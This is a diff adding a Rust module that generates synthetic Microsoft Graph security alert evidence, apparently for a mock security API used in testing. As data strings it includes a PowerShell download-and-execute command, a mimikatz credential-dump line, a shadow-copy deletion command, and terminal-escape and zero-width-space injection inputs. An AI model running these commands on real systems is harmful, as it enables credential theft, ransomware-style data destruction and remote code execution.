@@ -1,0 +1,508 @@
+//! Evidence rendering: derived on demand from an alert's seed and its incident's "cast"
+//! (the device, user and addresses involved), so nothing large is kept in memory.
+
+use rand::seq::IndexedRandom;
+use rand::{Rng, SeedableRng};
+use rand_chacha::ChaCha8Rng;
+use serde_json::{Map, Value, json};
+
+use super::model::{Alert, EvKind, Hostile, Incident, REMEDIATION_GATED, Ts};
+use super::pools;
+
+/// The entities one incident revolves around.
+pub struct Cast {
+    host: &'static str,
+    os: &'static str,
+    build: i64,
+    mde_id: String,
+    aad_device_id: String,
+    user_display: String,
+    account: String,
+    upn: String,
+    sid: String,
+    aad_user_id: String,
+    ext_ip: &'static str,
+    country: &'static str,
+    city: &'static str,
+    int_ip: String,
+    domain: &'static str,
+    sha1: String,
+    sha256: String,
+    md5: String,
+    hostile: Option<Hostile>,
+}
+
+fn hex(rng: &mut ChaCha8Rng, bytes: usize) -> String {
+    use std::fmt::Write;
+    let mut s = String::with_capacity(bytes * 2);
+    for _ in 0..bytes {
+        let _ = write!(s, "{:02x}", rng.random::<u8>());
+    }
+    s
+}
+
+fn guid(rng: &mut ChaCha8Rng) -> String {
+    uuid::Builder::from_random_bytes(rng.random())
+        .into_uuid()
+        .to_string()
+}
+
+impl Cast {
+    /// Derives the cast of an incident.
+    pub fn of(inc: &Incident) -> Cast {
+        let mut rng = ChaCha8Rng::seed_from_u64(inc.cast_seed);
+        let (host, os, build) = *pools::DEVICES
+            .choose(&mut rng)
+            .unwrap_or(&pools::DEVICES[0]);
+        let (display, account) = *pools::USERS.choose(&mut rng).unwrap_or(&pools::USERS[0]);
+        let (ext_ip, country, city) = *pools::EXT_IPS
+            .choose(&mut rng)
+            .unwrap_or(&pools::EXT_IPS[0]);
+        let domain = *pools::DOMAINS
+            .choose(&mut rng)
+            .unwrap_or(&pools::DOMAINS[0]);
+        let (mut user_display, mut account) = (display.to_string(), account.to_string());
+        if inc.hostile == Some(Hostile::ZwspUser) {
+            user_display = "Adm\u{200B}inistrator".into();
+            account = "adm\u{200B}inistrator".into();
+        }
+        Cast {
+            host,
+            os,
+            build,
+            mde_id: hex(&mut rng, 20),
+            aad_device_id: guid(&mut rng),
+            upn: format!("{account}@contoso.com"),
+            sid: format!(
+                "S-1-5-21-{}-{}-{}-{}",
+                rng.random_range(1_000_000_000u32..4_000_000_000),
+                rng.random_range(1_000_000_000u32..4_000_000_000),
+                rng.random_range(1_000_000_000u32..4_000_000_000),
+                rng.random_range(1100..9000)
+            ),
+            aad_user_id: guid(&mut rng),
+            user_display,
+            account,
+            ext_ip,
+            country,
+            city,
+            int_ip: format!(
+                "10.{}.{}.{}",
+                rng.random_range(0..=40),
+                rng.random_range(0..=255),
+                rng.random_range(2..=254)
+            ),
+            domain,
+            sha1: hex(&mut rng, 20),
+            sha256: hex(&mut rng, 32),
+            md5: hex(&mut rng, 16),
+            hostile: inc.hostile,
+        }
+    }
+}
+
+struct Ev<'a> {
+    rng: ChaCha8Rng,
+    created: String,
+    /// First activity of the alert (Unix seconds); process times are placed around it.
+    t0: i64,
+    cast: &'a Cast,
+    include_unknown: bool,
+    out: Vec<Value>,
+}
+
+impl Ev<'_> {
+    fn base(
+        &mut self,
+        ty: &str,
+        verdict: &str,
+        roles: &[&str],
+        detailed: &[&str],
+    ) -> Map<String, Value> {
+        let rem = *[
+            "none",
+            "none",
+            "none",
+            "remediated",
+            "prevented",
+            "blocked",
+            "pendingApproval",
+        ]
+        .choose(&mut self.rng)
+        .unwrap_or(&"none");
+        let rem = if !self.include_unknown && REMEDIATION_GATED.contains(&rem) {
+            "unknownFutureValue"
+        } else {
+            rem
+        };
+        let v = json!({
+            "@odata.type": format!("#microsoft.graph.security.{ty}"),
+            "createdDateTime": self.created,
+            "verdict": verdict,
+            "remediationStatus": rem,
+            "remediationStatusDetails": null,
+            "roles": roles,
+            "detailedRoles": detailed,
+            "tags": [],
+        });
+        match v {
+            Value::Object(m) => m,
+            _ => Map::new(),
+        }
+    }
+
+    fn push(&mut self, mut m: Map<String, Value>, extra: Value) {
+        if let Value::Object(e) = extra {
+            m.extend(e);
+        }
+        self.out.push(Value::Object(m));
+    }
+
+    fn user_account(&self) -> Value {
+        let c = self.cast;
+        json!({
+            "accountName": c.account, "domainName": "CONTOSO", "userSid": c.sid,
+            "azureAdUserId": c.aad_user_id, "userPrincipalName": c.upn, "displayName": c.user_display,
+        })
+    }
+
+    fn device(&mut self) {
+        let c = self.cast;
+        let m = self.base(
+            "deviceEvidence",
+            "suspicious",
+            &["compromised"],
+            &["Main device"],
+        );
+        let first_seen = Ts::from_parts(
+            1_700_000_000 + self.rng.random_range(0..40_000_000),
+            self.rng.random_range(0..999_999_999),
+            7,
+        );
+        let extra = json!({
+            "firstSeenDateTime": first_seen.render(),
+            "mdeDeviceId": c.mde_id, "azureAdDeviceId": c.aad_device_id,
+            "deviceDnsName": format!("{}.corp.contoso.com", c.host), "hostName": c.host,
+            "ntDomain": "CONTOSO", "dnsDomain": "corp.contoso.com",
+            "osPlatform": c.os, "osBuild": if c.build == 0 { Value::Null } else { json!(c.build) },
+            "version": if c.os.starts_with("Windows") { "22H2" } else { "Other" },
+            "healthStatus": "active", "riskScore": *["high", "medium", "low"].choose(&mut self.rng).unwrap_or(&"medium"),
+            "rbacGroupId": 75, "rbacGroupName": "UnassignedGroup",
+            "onboardingStatus": "onboarded", "defenderAvStatus": "updated",
+            "ipInterfaces": [c.int_ip],
+            "lastIpAddress": c.int_ip, "lastExternalIpAddress": c.ext_ip,
+            "loggedOnUsers": [{"accountName": c.account, "domainName": "CONTOSO"}],
+            "vmMetadata": null,
+        });
+        self.push(m, extra);
+    }
+
+    fn user(&mut self, roles: &[&str]) {
+        let m = self.base("userEvidence", "suspicious", roles, &[]);
+        let extra = json!({ "userAccount": self.user_account(), "stream": null });
+        self.push(m, extra);
+    }
+
+    fn file(&mut self, name: &str, path: &str) {
+        let c = self.cast;
+        let m = self.base(
+            "fileEvidence",
+            "malicious",
+            &[],
+            &["Referred in command line"],
+        );
+        let extra = json!({
+            "detectionStatus": "detected", "mdeDeviceId": c.mde_id,
+            "fileDetails": {
+                "sha1": c.sha1, "sha256": c.sha256, "md5": c.md5, "sha256Ac": null,
+                "fileName": name, "filePath": path, "fileSize": self.rng.random_range(10_000..9_000_000),
+                "filePublisher": null, "signer": null, "issuer": null,
+            },
+        });
+        self.push(m, extra);
+    }
+
+    fn process(
+        &mut self,
+        pid: i64,
+        ppid: i64,
+        image: (&str, &str),
+        parent: (&str, &str),
+        cmd: String,
+    ) {
+        let c = self.cast;
+        let m = self.base("processEvidence", "suspicious", &[], &[]);
+        let t = Ts::from_parts(
+            self.t0 + self.rng.random_range(0..60),
+            self.rng.random_range(0..999_999_999),
+            7,
+        );
+        let pt = Ts::from_parts(
+            t.secs() - self.rng.random_range(1..3600),
+            self.rng.random_range(0..999_999_999),
+            7,
+        );
+        let extra = json!({
+            "processId": pid, "parentProcessId": ppid, "processCommandLine": cmd,
+            "processCreationDateTime": t.render(), "parentProcessCreationDateTime": pt.render(),
+            "detectionStatus": "detected", "mdeDeviceId": c.mde_id,
+            "imageFile": { "sha1": hex(&mut self.rng, 20), "sha256": null, "fileName": image.0, "filePath": image.1, "fileSize": self.rng.random_range(100_000..5_000_000) },
+            "parentProcessImageFile": { "sha1": null, "sha256": null, "fileName": parent.0, "filePath": parent.1, "fileSize": self.rng.random_range(100_000..5_000_000) },
+            "userAccount": self.user_account(),
+        });
+        self.push(m, extra);
+    }
+
+    fn proc_chain(&mut self) {
+        let base = self.rng.random_range(1000..60_000i64);
+        let (word, cmd, ps) = (base, base + 24, base + 31);
+        let explorer = base - self.rng.random_range(100..900);
+        let doc = "Invoice_2026-03.docm";
+        self.process(
+            word,
+            explorer,
+            (
+                "WINWORD.EXE",
+                "C:\\Program Files\\Microsoft Office\\root\\Office16",
+            ),
+            ("explorer.exe", "C:\\Windows"),
+            format!(
+                "\"WINWORD.EXE\" /n \"C:\\Users\\{}\\Downloads\\{doc}\" /o \"\"",
+                self.cast.account
+            ),
+        );
+        self.process(
+            cmd,
+            word,
+            ("cmd.exe", "C:\\Windows\\System32"),
+            ("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16"),
+            "cmd.exe /c powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA".into(),
+        );
+        let ps_cmd = match self.cast.hostile {
+            Some(Hostile::EscCmd) => format!(
+                "powershell.exe -NoP -c \"Write-Host \u{1b}]0;pwned\u{7}; IEX (iwr http://{}/a.ps1)\"",
+                self.cast.domain
+            ),
+            Some(Hostile::LongCmd) => {
+                let mut s = String::from("powershell.exe -NoP -W Hidden -enc ");
+                const B64: &[u8] =
+                    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+                for _ in 0..5000 {
+                    s.push(char::from(B64[self.rng.random_range(0..B64.len())]));
+                }
+                s
+            }
+            _ => format!(
+                "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB7AH0ALwBhAC4AcABzADEAKQA= # {}",
+                self.cast.domain
+            ),
+        };
+        self.process(
+            ps,
+            cmd,
+            (
+                "powershell.exe",
+                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+            ),
+            ("cmd.exe", "C:\\Windows\\System32"),
+            ps_cmd,
+        );
+        self.file(doc, &format!("C:\\Users\\{}\\Downloads", self.cast.account));
+    }
+
+    fn ip(&mut self) {
+        let c = self.cast;
+        let m = self.base("ipEvidence", "suspicious", &["attacker"], &[]);
+        let extra = json!({
+            "ipAddress": c.ext_ip, "countryLetterCode": c.country,
+            "location": { "city": c.city, "countryName": c.country, "state": null, "latitude": null, "longitude": null },
+            "stream": null,
+        });
+        self.push(m, extra);
+    }
+
+    fn url(&mut self, path: &str) {
+        let m = self.base("urlEvidence", "malicious", &["commandAndControl"], &[]);
+        let extra = json!({ "url": format!("https://{}/{path}", self.cast.domain) });
+        self.push(m, extra);
+    }
+
+    fn mailbox(&mut self) {
+        let m = self.base("mailboxEvidence", "unknown", &["contextual"], &[]);
+        let extra = json!({
+            "displayName": self.cast.user_display, "primaryAddress": self.cast.upn, "upn": self.cast.upn,
+            "userAccount": self.user_account(),
+        });
+        self.push(m, extra);
+    }
+
+    fn message(&mut self) {
+        let c = self.cast;
+        let m = self.base("analyzedMessageEvidence", "malicious", &[], &[]);
+        let nmid = guid(&mut self.rng);
+        let recv = Ts::from_parts(self.t0 - self.rng.random_range(0..600), 0, 0);
+        let extra = json!({
+            "networkMessageId": nmid,
+            "internetMessageId": format!("<{}@mail.invoice-portal.biz>", hex(&mut self.rng, 8)),
+            "subject": "Action required: overdue invoice #44821",
+            "language": "en", "senderIp": c.ext_ip,
+            "recipientEmailAddress": c.upn, "antiSpamDirection": "Inbound",
+            "deliveryAction": "Delivered", "deliveryLocation": "Inbox/folder",
+            "p1Sender": { "emailAddress": "billing@invoice-portal.biz", "displayName": "Billing", "domainName": "invoice-portal.biz" },
+            "p2Sender": { "emailAddress": "billing@invoice-portal.biz", "displayName": "Billing", "domainName": "invoice-portal.biz" },
+            "receivedDateTime": recv.render(),
+            "threatDetectionMethods": ["urlDetonationReputation"], "threats": ["Phish"],
+            "urlCount": 1, "urls": [format!("https://{}/login", c.domain)], "attachmentsCount": 0,
+            "urn": format!("urn:MailEntity:{}", hex(&mut self.rng, 16)),
+        });
+        self.push(m, extra);
+    }
+
+    fn registry(&mut self) {
+        let c = self.cast;
+        let m = self.base("registryValueEvidence", "suspicious", &["edited"], &[]);
+        let extra = json!({
+            "mdeDeviceId": c.mde_id, "registryHive": "HKEY_CURRENT_USER",
+            "registryKey": "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
+            "registryValueName": "OneDriveUpdate", "registryValueType": "String",
+            "registryValue": format!("C:\\Users\\{}\\AppData\\Roaming\\odupd.exe -silent", c.account),
+        });
+        self.push(m, extra);
+    }
+
+    fn cloud_app(&mut self) {
+        let m = self.base("cloudApplicationEvidence", "unknown", &["contextual"], &[]);
+        let extra = json!({
+            "appId": 20892, "displayName": "Microsoft SharePoint Online", "instanceId": 0,
+            "instanceName": "Microsoft SharePoint Online", "saasAppId": 20892, "stream": null,
+        });
+        self.push(m, extra);
+    }
+
+    fn oauth(&mut self) {
+        let m = self.base(
+            "oauthApplicationEvidence",
+            "suspicious",
+            &["suspicious"],
+            &[],
+        );
+        let extra = json!({
+            "appId": guid(&mut self.rng), "objectId": guid(&mut self.rng),
+            "displayName": "PDF Converter Pro", "publisher": "Unverified",
+        });
+        self.push(m, extra);
+    }
+
+    fn future(&mut self) {
+        let m = self.base("quantumWidgetEvidence", "unknown", &[], &[]);
+        let extra = json!({ "widgetId": hex(&mut self.rng, 6), "entanglementState": "superposed", "qubits": 127 });
+        self.push(m, extra);
+    }
+}
+
+/// Renders the `evidence` collection of `alert`.
+pub fn evidence(cast: &Cast, alert: &Alert, include_unknown: bool) -> Vec<Value> {
+    let mut e = Ev {
+        rng: ChaCha8Rng::seed_from_u64(alert.evidence_seed),
+        created: alert.created.render(),
+        t0: alert.first_activity.secs(),
+        cast,
+        include_unknown,
+        out: Vec::with_capacity(6),
+    };
+    match alert.ev_kind {
+        EvKind::ProcChain | EvKind::Den => {
+            e.device();
+            e.user(&["compromised"]);
+            e.proc_chain();
+            if alert.ev_kind == EvKind::Den {
+                e.ip();
+                e.url("stage2.bin");
+            }
+        }
+        EvKind::Credential => {
+            e.device();
+            e.user(&["compromised"]);
+            let pid = e.rng.random_range(2000..9000);
+            e.process(
+                pid,
+                pid - 120,
+                ("mimi.exe", "C:\\ProgramData\\Temp"),
+                ("cmd.exe", "C:\\Windows\\System32"),
+                "mimi.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit".into(),
+            );
+            e.file("mimi.exe", "C:\\ProgramData\\Temp");
+        }
+        EvKind::Ransom => {
+            e.device();
+            e.file("svchostx.exe", "C:\\Users\\Public");
+            let pid = e.rng.random_range(2000..9000);
+            e.process(
+                pid,
+                pid - 40,
+                ("vssadmin.exe", "C:\\Windows\\System32"),
+                ("svchostx.exe", "C:\\Users\\Public"),
+                "vssadmin.exe delete shadows /all /quiet".into(),
+            );
+        }
+        EvKind::Registry => {
+            e.device();
+            e.registry();
+            e.file(
+                "odupd.exe",
+                &format!("C:\\Users\\{}\\AppData\\Roaming", cast.account),
+            );
+        }
+        EvKind::C2 => {
+            e.device();
+            e.ip();
+            e.url("beacon");
+            let pid = e.rng.random_range(2000..9000);
+            e.process(
+                pid,
+                pid - 300,
+                ("rundll32.exe", "C:\\Windows\\System32"),
+                ("explorer.exe", "C:\\Windows"),
+                "rundll32.exe C:\\Users\\Public\\lib.dll,Start".into(),
+            );
+        }
+        EvKind::Mail => {
+            e.mailbox();
+            e.message();
+            e.url("login");
+            e.user(&["contextual"]);
+        }
+        EvKind::MailForward => {
+            e.mailbox();
+            e.user(&["compromised"]);
+            e.ip();
+        }
+        EvKind::Identity => {
+            e.user(&["compromised"]);
+            e.ip();
+            if e.rng.random::<f64>() < 0.5 {
+                e.device();
+            }
+        }
+        EvKind::CloudApp => {
+            e.user(&["compromised"]);
+            e.cloud_app();
+            e.ip();
+        }
+        EvKind::OAuth => {
+            e.oauth();
+            e.cloud_app();
+            e.user(&["contextual"]);
+        }
+        EvKind::Sentinel => {
+            if e.rng.random::<f64>() < 0.5 {
+                e.ip();
+                e.user(&["contextual"]);
+            }
+        }
+    }
+    if alert.future_evidence {
+        e.future();
+    }
+    e.out
+}
